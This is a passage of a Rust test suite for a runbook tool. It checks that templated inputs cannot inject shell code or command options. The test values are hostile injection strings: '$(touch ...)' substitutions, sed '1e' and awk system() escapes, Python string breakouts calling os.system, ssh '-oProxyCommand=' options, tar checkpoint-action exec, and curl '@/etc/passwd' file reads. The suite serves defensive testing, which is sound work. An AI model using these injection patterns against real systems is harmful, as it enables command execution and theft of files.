        ("sed-s", "printf 'v=1\\n' > \"$OUT/conf\"; sed -i \"s|^v=.*|[{{ inputs.v }}]|\" \"$OUT/conf\"; tr -d '\\n' < \"$OUT/conf\" > \"$OUT/sed-s\"".into()),
        ("awk-string", r#"echo x | awk "{ printf \"[%s]\", \"{{ inputs.v }}\" }" > "$OUT/awk-string""#.into()),
    ];
    check(&steps, "/var/lib/my app; $(touch {m}/1) 'q'");
    for (id, run, value) in [
        ("sed-s", steps[0].1.clone(), "x|;1e touch {m}/1;#"),
        ("sed-s", steps[0].1.clone(), "x\\|\n1e touch {m}/2"),
        (
            "awk-string",
            steps[1].1.clone(),
            "x\"; system(\"touch {m}/3\"); print \"",
        ),
    ] {
        let (o, out, created, _t) = run_one(id, &run, value);
        assert_ne!(o.code, 0, "{id} with {value:?}: {}", o.stderr);
        assert!(o.stderr.contains("can run shell commands"), "{}", o.stderr);
        assert!(!out.join("conf").exists(), "{id} ran before the refusal");
        assert!(created.is_empty(), "{id} with {value:?} ran code");
    }
}

/// Ninth audit: strings that `entr -s` and `nix-shell --run` give a shell, and the
/// input of a program that starts a shell when it is given no command (`chroot DIR`,
/// `nsenter`, `unshare`, `newgrp`, `script`): data, or refused before anything runs. The
/// programs are stand-ins on `PATH` that do what the real ones do with the string or the
/// input (run it with `sh`), so that the test needs neither entr, nix nor root.
#[test]
fn strings_and_input_that_other_programs_give_a_shell_stay_data() {
    let fakes = [
        // entr -s: the first operand, run with `$SHELL -c` once the listed files are read.
        (
            "entr",
            "cat > /dev/null; s=; for a; do case $a in -*s*) s=1;; -*) ;; *) [ -n \"$s\" ] && exec sh -c \"$a\"; exec \"$@\";; esac; done; exit 9",
        ),
        (
            "nix-shell",
            "while [ $# -gt 0 ]; do [ \"$1\" = --run ] && exec bash -c \"$2\"; shift; done; exit 9",
        ),
        // chroot DIR with no command: `${SHELL:-/bin/sh} -i`, reading its input.
        ("chroot", "exec sh"),
    ];
    let steps: Vec<(&str, String)> = vec![
        (
            "entr",
            r#"echo /dev/null | entr -nzs "printf '[%s]' {{ inputs.v }}" > "$OUT/entr""#.into(),
        ),
        (
            "nix-shell",
            r#"nix-shell -p hello --run "printf '[%s]' {{ inputs.v }}" > "$OUT/nix-shell""#.into(),
        ),
        (
            "chroot-heredoc",
            "chroot /host <<EOF\nprintf '[%s]' {{ inputs.v }} > \"$OUT/chroot-heredoc\"\nEOF"
                .into(),
        ),
        (
            "chroot-pipe",
            r#"echo "printf '[%s]' {{ inputs.v }} > \"\$OUT/chroot-pipe\"" | chroot /host"#.into(),
        ),
        (
            "chroot-herestring",
            r#"chroot /host <<< "printf '[%s]' {{ inputs.v }} > \"\$OUT/chroot-herestring\"""#
                .into(),
        ),
    ];
    let mut values = hostile("{m}");
    values.push("web 1, /var/lib/app".into());
    for value in values {
        for (id, run) in &steps {
            let t = Test::new().file("runbooks/rb.yaml", &runbook_of(&[(id, run.clone())]));
            let bin = t.path("bin");
            std::fs::create_dir_all(&bin).unwrap();
            for (name, script) in fakes {
                let path = bin.join(name);
                std::fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
                let mut perms = std::fs::metadata(&path).unwrap().permissions();
                std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
                std::fs::set_permissions(&path, perms).unwrap();
            }
            let (marks, out) = (t.path("marks"), t.path("out"));
            std::fs::create_dir_all(&marks).unwrap();
            std::fs::create_dir_all(&out).unwrap();
            let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
            let t = t.env("OUT", out.to_str().unwrap()).env("PATH", &path);
            let value = value.replace("{m}", marks.to_str().unwrap());
            let o = t.exec(&["run", "rb", "--yes", "--input", &format!("v={value}")]);
            let created: Vec<_> = std::fs::read_dir(&marks).unwrap().flatten().collect();
            assert!(
                created.is_empty(),
                "{id} with {value:?} ran code: {}",
                o.stderr
            );
            let printed = std::fs::read_to_string(out.join(id)).ok();
            if o.code == 0 {
                assert_eq!(printed, Some(format!("[{value}]")), "{id} with {value:?}");
            } else {
                assert!(
                    printed.is_none(),
                    "{id} with {value:?} ran before the refusal"
                );
                assert!(
                    o.stderr.contains("cannot render the command"),
                    "{id} with {value:?}: {}",
                    o.stderr
                );
            }
            // An ordinary value arrives.
            if value.starts_with("web") {
                o.code(0);
            }
        }
    }
}

/// A `{{ }}` value in the words of a command that runs commands (`ssh {{ host }} "…"`,
/// `timeout {{ n }} sh -c "…"`) is runbook's own, quoted where it stands: another value of
/// the step quoted into a re-parsed string stays free text (an audit found the floor took
/// runbook's own stand-in for a variable the script sets, and refused every reason with
/// `'`); free text arrives byte for byte, code is still data.
#[test]
fn a_templated_host_does_not_make_other_values_plain_words() {
    let rb = runbook_of(&[(
        "two",
        "timeout {{ inputs.n }} sh -c \"printf '[%s]' '{{ inputs.v }}'\" > \"$OUT/two\""
            .to_string(),
    )])
    .replace(
        "inputs:\n",
        "inputs:\n  n: {description: seconds, default: \"5\"}\n",
    );
    for value in ["it's down 50% (ticket #42)", "x;touch {m}/1"] {
        let (o, out, created, t) = run_runbook(&rb, value);
        o.code(0);
        assert!(created.is_empty(), "{value}: {}", o.stderr);
        let value = value.replace("{m}", t.path("marks").to_str().unwrap());
        assert_eq!(
            std::fs::read_to_string(out.join("two")).unwrap_or_default(),
            format!("[{value}]"),
            "{}",
            o.stderr
        );
    }
}

/// The eighteenth audit: what a loop, an `if` or a group prints into a process substitution
/// or a descriptor that runs a shell is code (`for …; done > >(sh)`, `exec 3> >(sh)` then
/// `done >&3`), as it was down a pipe; and what a program prints of the environment
/// (`printenv V`, jq's `env.V`, awk's `ENVIRON["V"]`) into a shell is the value.
#[test]
fn what_a_compound_or_the_environment_prints_into_a_shell_is_checked() {
    let steps = [
        "for h in a; do echo \"echo {{ inputs.v }}\"; done > >(sh)\nsleep 1",
        "{ echo \"echo {{ inputs.v }}\"; } > >(bash)\nsleep 1",
        "if true; then echo \"echo {{ inputs.v }}\"; fi 1> >(sh)\nsleep 1",
        "p=\"{{ inputs.v }}\"\nwhile true; do echo \"echo $p\"; break; done > >(sh)\nsleep 1",
        "v=\"{{ inputs.v }}\"\nexec 3> >(sh)\nfor h in a; do echo \"echo $v\"; done >&3\nsleep 1",
        "export V=\"{{ inputs.v }}\"\njq -rn '\"echo \" + env.V' | sh",
        "export V=\"{{ inputs.v }}\"\nprintenv V | sed 's/^/echo /' | sh",
        "export V=\"{{ inputs.v }}\"\nawk 'BEGIN{print \"echo \" ENVIRON[\"V\"]}' > >(bash)\nsleep 1",
        // A function of the script called into a shell, and the environment printed to a
        // file the script then runs.
        "v=\"{{ inputs.v }}\"\ngen() { echo \"echo $v\"; }\ngen > >(sh)\nsleep 1",
        "export V=\"{{ inputs.v }}\"\njq -rn '\"echo \" + env.V' > \"$OUT/job.sh\"\nbash \"$OUT/job.sh\"",
        // Audit 19: a group or loop timed or negated, a function called as `\gen`.
        "time { echo \"echo {{ inputs.v }}\"; } | sh",
        "! { echo \"echo {{ inputs.v }}\"; } > >(sh)\nsleep 1",
        "time for h in a; do echo \"echo {{ inputs.v }}\"; done | sh",
        "gen() { echo \"echo {{ inputs.v }}\"; }\n\\gen > >(sh)\nsleep 1",
        // The environment printed by xargs printenv, printenv of a name in a variable, an
        // inner shell, code on a here-document.
        "export V=\"{{ inputs.v }}\"\necho V | xargs printenv | sed 's/^/echo /' | sh",
        "export V=\"{{ inputs.v }}\"\nfor n in V; do printenv \"$n\"; done | sed 's/^/echo /' | sh",
        "export V=\"{{ inputs.v }}\"\nsh -c 'echo \"echo $V\"' | sh",
        "export V=\"{{ inputs.v }}\"\npython3 - <<'PY' | sh\nimport os\nprint(\"echo \" + os.environ[\"V\"])\nPY",
        // Audit 19 HOLE-2: a function called through a variable, or piped into `tee >(sh)`.
        "gen() { echo \"echo {{ inputs.v }}\"; }\nf=gen\n$f > >(sh)\nsleep 1",
        "gen() { echo \"echo {{ inputs.v }}\"; }\nf=gen\n\"$f\" | sh",
        "gen() { echo \"echo {{ inputs.v }}\"; }\ngen | tee >(sh) >/dev/null\nsleep 1",
        // Audit 20: a shell reading its script from `<( )` or a descriptor, the environment
        // printed into a file the script runs, busybox's applets.
        "export V=\"{{ inputs.v }}\"\nsh < <(printenv V | sed 's/^/echo /')",
        "S=\"{{ inputs.v }}\"\n. <(echo \"echo $S\")",
        "sh 3<<<\"echo {{ inputs.v }}\" /dev/fd/3",
        "export V=\"{{ inputs.v }}\"\nenv | sed -n 's/^V=/echo /p' > \"$OUT/job.sh\"\nsh \"$OUT/job.sh\"",
        "S=\"{{ inputs.v }}\"; echo \"echo $S\" | busybox sh",
        "S=\"{{ inputs.v }}\"; bash -c 'eval \"$0\"' \"$S\"",
    ];
    for (k, run) in steps.iter().enumerate() {
        for value in ["x;touch {m}/1", "$(touch {m}/2)"] {
            let (o, _, created, _t) = run_one(&format!("s{k}"), run, value);
            assert!(created.is_empty(), "{run}\nwith {value:?} ran code");
            assert_ne!(o.code, 0, "{run}\n{}", o.stderr);
        }
    }
    // An input's or a step's `env:` printed into a shell by a program that reads it.
    let rb = format!(
        "title: Env\n{HEAD}inputs:\n  v: {{description: v, env: NV}}\nsteps:\n  - id: a\n    title: A\n    on_failure: continue\n    run: |\n      printenv NV | sed 's/^/echo /' | sh > \"$OUT/a\"\n  - id: b\n    title: B\n    on_failure: continue\n    env: {{C: \"{{{{ inputs.v }}}}\"}}\n    run: |\n      jq -rn '\"echo \" + env.C' | sh > \"$OUT/b\"\n  - id: c\n    title: C\n    on_failure: continue\n    run: |\n      env | sed -n 's/^NV=/echo /p' | sh > \"$OUT/c\"\n  - id: d\n    title: D\n    on_failure: continue\n    run: |\n      echo \"echo $NV\" > \"$OUT/job.sh\"; bash \"$OUT/job.sh\" > \"$OUT/d\"\n  - id: e\n    title: E\n    run: |\n      printenv NV | sed 's/^/echo /' > >(bash > \"$OUT/e\")\n      sleep 1\n"
    );
    for (value, ok) in [
        ("db-1", true),
        ("a;touch {m}/3", false),
        ("$(touch {m}/4)", false),
    ] {
        let (o, out, created, _t) = run_runbook(&rb, value);
        assert!(created.is_empty(), "{value:?} ran code");
        for step in ["a", "b", "c", "d", "e"] {
            assert_eq!(out.join(step).exists(), ok, "{step} {value}: {}", o.stderr);
        }
        if ok {
            assert_eq!(std::fs::read_to_string(out.join("a")).unwrap(), "db-1\n");
        }
    }
}

/// Audit 18: a copy split into a program's operands (`touch $FILES`, or by a `for` into
/// `touch "$f"`; `touch "b-$f"` is no option whatever `$f` holds) makes each word of the value an operand, where a word starting with `-` is
/// an option (`systemctl restart nginx -H root@evil` acts on another machine); free text
/// quoted whole is one operand and may hold ` - `.
#[test]
fn a_value_split_into_operands_may_not_hold_an_option() {
    let rb = format!(
        "title: Split\n{HEAD}inputs:\n  v: {{description: v}}\n  e: {{description: e, env: NE}}\nsteps:\n  - id: a\n    title: A\n    on_failure: continue\n    run: |\n      cd \"$OUT\"; F=\"{{{{ inputs.v }}}}\"; touch $F\n  - id: b\n    title: B\n    on_failure: continue\n    run: |\n      mkdir -p \"$OUT/b\"; cd \"$OUT/b\"; F=\"{{{{ inputs.v }}}}\"\n      for f in $F; do touch \"$f\"; done\n  - id: c\n    title: C\n    on_failure: continue\n    run: |\n      cd \"$OUT\"; touch $NE\n  - id: d\n    title: D\n    run: |\n      cd \"$OUT\"; m=\"{{{{ inputs.v }}}}\"; touch \"$m\"\n"
    );
    let t = Test::new().file("runbooks/rb.yaml", &rb);
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let t = t.env("OUT", out.to_str().unwrap());
    for (value, split_ok) in [
        ("x1 x2", true),
        ("y1 -r y2", false),
        ("z1\n--no-create", false),
    ] {
        let o = t.exec(&[
            "run",
            "rb",
            "--yes",
            "--input",
            &format!("v={value}"),
            "--input",
            &format!("e={value}"),
        ]);
        let first = value.split_whitespace().next().unwrap();
        assert_eq!(
            out.join(first).exists(),
            split_ok,
            "{value:?}: {}",
            o.stderr
        );
        assert_eq!(
            out.join("b").join(first).exists(),
            split_ok,
            "{value:?}: {}",
            o.stderr
        );
        // Quoted whole: one operand, whatever it holds.
        assert!(out.join(value).exists(), "{value:?}: {}", o.stderr);
        if !split_ok {
            assert!(
                o.stderr.contains("a word of its value starts with `-`"),
                "{}",
                o.stderr
            );
            assert!(
                o.stderr.contains("must be plain words separated by spaces"),
                "{}",
                o.stderr
            );
        }
    }
}

/// Audit 17's FR-1, left by audit 18: the lines `mapfile -t` reads, walked element by
/// element (`for p in "${ps[@]}"`), reach an ssh string a line at a time, as `while read`
/// does; joined (`${ps[*]}`) or with IFS changed, each still must be one plain word.
#[test]
fn lines_read_by_mapfile_and_walked_one_by_one_reach_an_ssh_string() {
    let walked = "mapfile -t ps <<< \"{{ inputs.v }}\"\nfor p in \"${ps[@]}\"; do sh -c \"printf '[%s]' $p\" >> \"$OUT/walked\"; done";
    let joined =
        "mapfile -t ps <<< \"{{ inputs.v }}\"\nsh -c \"printf '[%s]' ${ps[*]}\" > \"$OUT/joined\"";
    let ifs = "mapfile -t ps <<< \"{{ inputs.v }}\"\nIFS=$'\\n'\nfor p in \"${ps[@]}\"; do sh -c \"printf '[%s]' $p\" >> \"$OUT/ifs\"; done";
    let (o, out, created, _t) = run_one("walked", walked, "1234\n5678");
    o.code(0);
    assert!(created.is_empty());
    assert_eq!(
        std::fs::read_to_string(out.join("walked")).unwrap(),
        "[1234][5678]"
    );
    for value in ["1\n$(touch {m}/1)", "1\nx;touch {m}/2", "1 2\n3"] {
        let (o, out, created, _t) = run_one("walked", walked, value);
        assert!(created.is_empty(), "{value:?} ran code");
        assert_ne!(o.code, 0);
        assert!(!out.join("walked").exists());
    }
    for (id, run) in [("joined", joined), ("ifs", ifs)] {
        let (o, out, created, _t) = run_one(id, run, "1234\n5678");
        assert!(created.is_empty());
        assert_ne!(o.code, 0, "{id}: {}", o.stderr);
        assert!(!out.join(id).exists());
    }
}

/// Audit 19 (OPT-3): the lines `mapfile -t` reads, walked into a program's operand one by
/// one, may not start an option (`--all` on its own line).
#[test]
fn lines_walked_into_an_operand_may_not_hold_an_option() {
    let run = "mkdir -p \"$OUT/m\"; cd \"$OUT/m\"\nmapfile -t ps <<< \"{{ inputs.v }}\"\nfor p in \"${ps[@]}\"; do touch \"$p\"; done";
    let (o, out, _, _t) = run_one("m", run, "api-1\napi-2");
    o.code(0);
    assert!(out.join("m/api-1").exists() && out.join("m/api-2").exists());
    for value in ["api-1\n--no-create", "-c"] {
        let (o, out, _, _t) = run_one("m", run, value);
        assert_ne!(o.code, 0, "{value:?}");
        assert!(!out.join("m").exists(), "{value:?}: {}", o.stderr);
    }
}

/// Audit 19 (OPT-2): a value split into a program's operands through a copy (`T=$S`),
/// `read -ra`, `A=($S)`, `set -- $S`, a function's `"$@"`, `while read` unquoted, `xargs` or
/// an unquoted `$( )` may not hold a word starting with `-`; plain words pass.
#[test]
fn a_value_split_into_operands_by_any_way_may_not_hold_an_option() {
    let steps = [
        "S=\"{{ inputs.v }}\"; T=$S; touch ${T}",
        "S=\"{{ inputs.v }}\"; read -ra A <<< \"$S\"; touch \"${A[@]}\"",
        "S=\"{{ inputs.v }}\"; A=($S); touch \"${A[@]}\"",
        "S=\"{{ inputs.v }}\"; set -- $S; touch \"$@\"",
        "S=\"{{ inputs.v }}\"; t() { touch \"$@\"; }; t $S",
        "S=\"{{ inputs.v }}\"; while read -r s; do touch $s; done <<< \"$S\"",
        "S=\"{{ inputs.v }}\"; echo $S | xargs touch",
        "touch $(echo \"{{ inputs.v }}\")",
    ];
    for (k, step) in steps.iter().enumerate() {
        let run = format!("mkdir -p \"$OUT/m\"; cd \"$OUT/m\"\n{step}");
        let (o, out, _, _t) = run_one("m", &run, "x1 x2");
        assert_eq!(o.code, 0, "{step}: {}", o.stderr);
        assert!(
            out.join("m/x1").exists() && out.join("m/x2").exists(),
            "{step}"
        );
        for value in ["y1 -r y2", "z1\n--no-create"] {
            let (o, out, _, _t) = run_one("m", &run, value);
            assert_ne!(o.code, 0, "{k}: {step} with {value:?}");
            assert!(
                !out.join("m").exists(),
                "{step} with {value:?}: {}",
                o.stderr
            );
        }
    }
}

/// Audit 19 (HOLE-5): a filter that writes shell characters between the words of a value
/// (`sed 's/,/;/g'`, `tr '\n' ';'`) before a string another shell parses: plain words are
/// no proof there, so every value is refused, and lint says so ahead.
#[test]
fn a_filter_writing_shell_characters_refuses_every_value() {
    for step in [
        "mapfile -t ps < <(printf '%s\\n' \"{{ inputs.v }}\" | sed 's/,/;/g'); for p in \"${ps[@]}\"; do sh -c \"echo $p\"; done",
        "mapfile -t ps < <(echo \"{{ inputs.v }}\" | tr '\\n' ';'); for p in \"${ps[@]}\"; do sh -c \"echo $p\"; done",
        "S=\"{{ inputs.v }}\"; T=$(echo \"$S\" | tr , ';'); sh -c \"echo $T\"",
    ] {
        for value in ["123,touch {m}/1", "123\ntouch {m}/2", "123"] {
            let (o, _, created, _t) = run_one("f", step, value);
            assert!(created.is_empty(), "{step} with {value:?} ran code");
            assert_ne!(o.code, 0, "{step} with {value:?}");
            if value == "123" {
                assert!(o.stderr.contains("writes shell characters"), "{}", o.stderr);
            }
        }
    }
}

/// Audit 20 HOLE-3: a value in a string literal of Python code given on the command line
/// is data until it would end the literal; one that would is refused before anything runs.
#[test]
fn a_value_that_would_end_its_python_string_is_refused() {
    let run = "python3 -c 'print(\"{{ inputs.v }}\")' > \"$OUT/p\"";
    let (o, out, _, _t) = run_one("p", run, "it's down (ticket #42)");
    o.code(0);
    assert_eq!(
        std::fs::read_to_string(out.join("p")).unwrap(),
        "it's down (ticket #42)\n"
    );
    for value in [
        "x\"); import os; os.system(\"touch {m}/1\"); print(\"",
        "x\\\"); import os; os.system('touch {m}/2'); print(\"",
        "{__import__('os').system('touch {m}/3')}",
    ] {
        let (o, out, created, _t) = run_one("p", run, value);
        assert!(created.is_empty(), "{value:?} ran code");
        assert_ne!(o.code, 0, "{value:?}");
        assert!(!out.join("p").exists(), "{value:?}");
    }
}

/// Audit 20 HOLE-5 (ar cases): words kept in an array or a variable and spread into a
/// command that runs what some options name (`find "${args[@]}"` with `-exec sh -c`, tar's
/// `--checkpoint-action` quoted whole, in a variable or an array) are read where they are
/// spread: a value holding code is refused before anything runs, plain text still runs.
#[test]
fn words_spread_into_a_command_that_runs_options_are_followed() {
    for step in [
        "K=\"{{ inputs.v }}\"; args=(-maxdepth 0 -exec sh -c \"echo $K > \\\"$OUT/f\\\"\" \\;); find . \"${args[@]}\"",
        "K=\"{{ inputs.v }}\"; tar -cf \"$OUT/a.tar\" --checkpoint=1 \"--checkpoint-action=exec=echo $K\" -C /etc hostname",
        "K=\"{{ inputs.v }}\"; a=\"--checkpoint-action=exec=echo $K\"; tar -cf \"$OUT/a.tar\" --checkpoint=1 \"$a\" -C /etc hostname",
        "K=\"{{ inputs.v }}\"; o=(-I \"gzip $K\"); tar -cf \"$OUT/a.tgz\" \"${o[@]}\" -C /etc hostname",
    ] {
        for value in ["$(touch {m}/1)", "x;touch {m}/2"] {
            let (o, _, created, _t) = run_one("s", step, value);
            assert!(created.is_empty(), "{step} with {value:?} ran code");
            assert_ne!(o.code, 0, "{step} with {value:?}");
        }
    }
    let (o, out, _, _t) = run_one(
        "s",
        "K=\"{{ inputs.v }}\"; args=(-maxdepth 0 -exec sh -c \"echo $K > \\\"$OUT/f\\\"\" \\;); find . \"${args[@]}\"",
        "web-1",
    );
    o.code(0);
    assert_eq!(std::fs::read_to_string(out.join("f")).unwrap(), "web-1\n");
}

/// Audit 20 OPT-2: a value quoted by `${S@Q}` or `printf %q` for another shell is one word
/// of the command there, which may read it as an option: one starting with `-` is refused.
#[test]
fn a_value_quoted_for_another_shell_may_not_start_an_option_there() {
    for step in [
        "S=\"{{ inputs.v }}\"; cd \"$OUT\"; bash -c \"touch ${S@Q}\"",
        "S=\"{{ inputs.v }}\"; cd \"$OUT\"; sh -c \"touch $(printf %q \"$S\")\"",
    ] {
        let (o, out, _, _t) = run_one("q", step, "it's down");
        o.code(0);
        assert!(out.join("it's down").exists(), "{step}");
        let (o, out, _, _t) = run_one("q", step, "-r/etc/hostname");
        assert_ne!(o.code, 0, "{step}");
        assert!(o.stderr.contains("starts with `-`"), "{}", o.stderr);
        assert_eq!(std::fs::read_dir(out).unwrap().count(), 0, "{step}");
    }
}
/// Writes the shell script `script` as the program `name` in the test's `bin` folder, which
/// it returns (to put first on the PATH).
fn write_fake(t: &Test, name: &str, script: &str) -> std::path::PathBuf {
    let bin = t.path("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let path = bin.join(name);
    std::fs::write(&path, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

/// A fake program in a folder of the test: it writes the arguments it was given to
/// `$OUT/NAME`, one `[arg]` each.
fn fake_program(t: &Test, name: &str) -> std::path::PathBuf {
    write_fake(
        t,
        name,
        &format!("#!/bin/sh\nprintf '[%s]' \"$@\" > \"$OUT/{name}\"\n"),
    )
}

/// The programs [`run_with_fakes`] puts first on the PATH.
const FAKES: [&str; 17] = [
    "ssh",
    "systemctl",
    "curl",
    "make",
    "vim",
    "sysctl",
    "gh",
    "aws",
    "helm",
    "7z",
    "kubectl",
    "psql",
    "scp",
    "git",
    "tar",
    "jq",
    "pgrep",
];

/// Runs the one step `run` with `value`, with the [`FAKES`] first on the PATH: the run's
/// output and what each fake was given (`None`: it did not run).
fn run_with_fakes(run: &str, value: &str) -> (common::Output, Vec<(String, Option<String>)>) {
    let rb = runbook_of(&[("s", run.to_string())]);
    run_step(&rb, &FAKES, fake_program, &[], value)
}

/// Runs the runbook `rb` (its one step `s`) with `value` for `v` and `extra` arguments, with
/// `fakes` (each made by `fake`) first on the PATH: the run's output and what each fake was
/// given (`None`: it did not run).
fn run_step(
    rb: &str,
    fakes: &[&str],
    fake: fn(&Test, &str) -> std::path::PathBuf,
    extra: &[&str],
    value: &str,
) -> (common::Output, Vec<(String, Option<String>)>) {
    let t = Test::new().file("runbooks/rb.yaml", rb);
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let mut bin = std::path::PathBuf::new();
    for name in fakes {
        bin = fake(&t, name);
    }
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let t = t.env("OUT", out.to_str().unwrap()).env("PATH", &path);
    let input = format!("v={value}");
    let mut args = vec!["run", "rb", "--yes"];
    args.extend_from_slice(extra);
    args.extend(["--input", input.as_str()]);
    let o = t.exec(&args);
    let given = fakes
        .iter()
        .map(|n| (n.to_string(), std::fs::read_to_string(out.join(n)).ok()))
        .collect();
    (o, given)
}

/// Runs `run` with `hostile`, which is refused before any fake runs with a message saying
/// one of `says`, then with `ordinary`, which gives `program` the arguments `given`.
fn refused_then_run(
    run: &str,
    hostile: &str,
    says: &[&str],
    ordinary: &str,
    program: &str,
    given: &str,
) {
    let (o, given_hostile) = run_with_fakes(run, hostile);
    assert_ne!(o.code, 0, "{run} with {hostile:?}");
    assert!(
        says.iter().any(|s| o.stderr.contains(s)),
        "{run}: {}",
        o.stderr
    );
    assert!(
        given_hostile.iter().all(|(_, g)| g.is_none()),
        "{run}: {given_hostile:?}"
    );
    let (o, given_ordinary) = run_with_fakes(run, ordinary);
    assert_eq!(o.code, 0, "{run} with {ordinary:?}: {}", o.stderr);
    let got = given_ordinary.iter().find(|(n, _)| n == program);
    assert_eq!(got.and_then(|(_, g)| g.as_deref()), Some(given), "{run}");
}

/// Audit 22 HOLE-C, OPT-A, OPT-B: a value rewritten on its way to a program's operands (a
/// piece cut out by `cut -d,`, split by `xargs -d,`, decoded by `base64 -d`) may bring an
/// option there although it is one plain word: refused before anything runs; the same
/// steps run an ordinary value.
#[test]
fn a_value_rewritten_on_its_way_to_a_programs_operands_is_checked_piece_by_piece() {
    for (run, hostile, ordinary, program, given) in [
        (
            r#"H="{{ inputs.v }}"; ssh -n $(echo "$H" | cut -d, -f2) uptime"#,
            "web-1,-oProxyCommand=touch_x",
            "web-0,web-1",
            "ssh",
            "[-n][web-1][uptime]",
        ),
        (
            r#"H="{{ inputs.v }}"; systemctl restart "$(echo "$H" | cut -d, -f2)""#,
            "web-1,--all",
            "web-1,nginx",
            "systemctl",
            "[restart][nginx]",
        ),
        (
            r#"echo "{{ inputs.v }}" | cut -d, -f2 | xargs systemctl restart"#,
            "web-1,--all",
            "web-1,nginx",
            "systemctl",
            "[restart][nginx]",
        ),
        (
            r#"echo "{{ inputs.v }}" | xargs -d, systemctl restart"#,
            "nginx,--all",
            "nginx",
            "systemctl",
            "[restart][nginx\n]",
        ),
        (
            r#"systemctl restart "$(basename "{{ inputs.v }}")""#,
            "units/--all",
            "units/nginx",
            "systemctl",
            "[restart][nginx]",
        ),
    ] {
        refused_then_run(
            run,
            hostile,
            &["starts with `-`", "starting with `-`"],
            ordinary,
            program,
            given,
        );
    }
    // Decoded, no value is what was checked: refused whatever it holds.
    let run = r#"S=$(base64 -d <<< "{{ inputs.v }}"); systemctl restart "$S""#;
    for value in ["LS1hbGw=", "bmdpbng="] {
        let (o, given) = run_with_fakes(run, value);
        assert_ne!(o.code, 0, "{value}");
        assert!(o.stderr.contains("decodes text"), "{}", o.stderr);
        assert!(given.iter().all(|(_, g)| g.is_none()), "{given:?}");
    }
}

/// Audit 22 HOLE-D: interpreter code that changes text (`urllib.parse.unquote`, `gsub`)
/// before it hands it to a shell makes a command line of plain words: a value given to it
/// is refused whatever it holds, and lint says so (RB031).
#[test]
fn a_value_given_to_code_that_changes_it_before_a_shell_is_refused() {
    for run in [
        r#"python3 -c 'import sys,os,urllib.parse as u; os.system(u.unquote(sys.argv[1]))' "{{ inputs.v }}""#,
        r#"awk -v s="{{ inputs.v }}" 'BEGIN{gsub("_"," ",s); system(s)}'"#,
    ] {
        for value in ["touch%20{m}/1", "touch_{m}/2", "nginx"] {
            let (o, _, created, _t) = run_one("s", run, value);
            assert!(created.is_empty(), "{run} with {value:?} ran code");
            assert_ne!(o.code, 0, "{run} with {value:?}");
            assert!(o.stderr.contains("changes text"), "{}", o.stderr);
        }
        let t = Test::new().file("runbooks/rb.yaml", &runbook_of(&[("s", run.to_string())]));
        let o = t.exec(&["lint", "--no-shellcheck", "runbooks/rb.yaml"]);
        assert!(o.stdout.contains("RB031"), "{run}: {}", o.stdout);
    }
}

/// Audit 22 OPT-C: a value starting curl's data, header or form argument may not start
/// with `@` (curl would read the file and send it), directly or through a copy; a form
/// field's value may not hold `;`; an ordinary message is posted as it is.
#[test]
fn a_value_starting_curls_data_may_not_name_a_file() {
    for run in [
        r#"curl -s -X POST -d "{{ inputs.v }}" http://127.0.0.1:9/hook"#,
        r#"M="{{ inputs.v }}"; curl -s -d "$M" http://127.0.0.1:9/hook"#,
        r#"curl -s -H "{{ inputs.v }}" http://127.0.0.1:9/hook"#,
        r#"curl -s -F "msg={{ inputs.v }}" http://127.0.0.1:9/hook"#,
    ] {
        let (o, given) = run_with_fakes(run, "@/etc/passwd");
        assert_ne!(o.code, 0, "{run}");
        assert!(o.stderr.contains("starts with `@`"), "{run}: {}", o.stderr);
        assert!(given.iter().all(|(_, g)| g.is_none()), "{run}: {given:?}");
        let (o, given) = run_with_fakes(run, "disk full on web-1 (ticket 42)");
        assert_eq!(o.code, 0, "{run}: {}", o.stderr);
        let curl = given
            .iter()
            .find(|(n, _)| n == "curl")
            .and_then(|(_, g)| g.clone());
        assert!(
            curl.is_some_and(|c| c.contains("disk full on web-1 (ticket 42)")),
            "{run}"
        );
    }
    let (o, _) = run_with_fakes(
        r#"curl -s -F "msg={{ inputs.v }}" http://127.0.0.1:9/hook"#,
        "hi;headers=@/etc/passwd",
    );
    assert_ne!(o.code, 0);
    assert!(o.stderr.contains("holds `;`"), "{}", o.stderr);
}

/// Audit 23 HOLE-F: a value written to a file that the script reads back into the words of
/// vim or make (`$(cat f)`, `read`, `mapfile`, `xargs -a`) may not hold vim's `+cmd` nor
/// make's `NAME=`; an ordinary value runs, and a note appended to a log file that nothing
/// reads again is free text.
#[test]
fn a_value_read_back_from_a_file_into_vim_or_make_is_checked() {
    for (run, hostile, ordinary, program, given) in [
        (
            r#"printf '%s\n' "{{ inputs.v }}" > "$OUT/l.txt"; vim -Es -n "$(cat "$OUT/l.txt")""#,
            "+w/tmp/x",
            "notes.txt",
            "vim",
            "[-Es][-n][notes.txt]",
        ),
        (
            r#"printf '%s\n' "{{ inputs.v }}" > "$OUT/l.txt"; read -r T < "$OUT/l.txt"; make -s "$T""#,
            "SHELL=/tmp/x",
            "deploy",
            "make",
            "[-s][deploy]",
        ),
        (
            r#"printf '%s\n' "{{ inputs.v }}" > "$OUT/l.txt"; xargs -a "$OUT/l.txt" make -s"#,
            "SHELL=/tmp/x",
            "deploy",
            "make",
            "[-s][deploy]",
        ),
    ] {
        refused_then_run(run, hostile, &["reads back"], ordinary, program, given);
    }
    let (o, given) = run_with_fakes(
        r#"cd "$OUT"; echo "{{ inputs.v }}" >> notes.log; echo nginx > svc; systemctl restart "$(cat svc)""#,
        "it's down (ticket #42)",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    let got = given
        .iter()
        .find(|(n, _)| n == "systemctl")
        .and_then(|(_, g)| g.clone());
    assert_eq!(got.as_deref(), Some("[restart][nginx]"));
}

/// Audit 24 HOLE-I, OPT-E: a filter or an expansion that cuts characters off a value
/// (`sed 's/^v//'`, `cut -c2-`, `${1#x}`, `${T#v}`, `${H//_/-}`) may bring any of them to the
/// start of a word: a value with `-` is refused there; one without runs. OPT-F, OPT-G:
/// curl's `-sd`, `--data-ascii`, gh's `-F key=@file`, and a `sysctl` key holding `=`.
#[test]
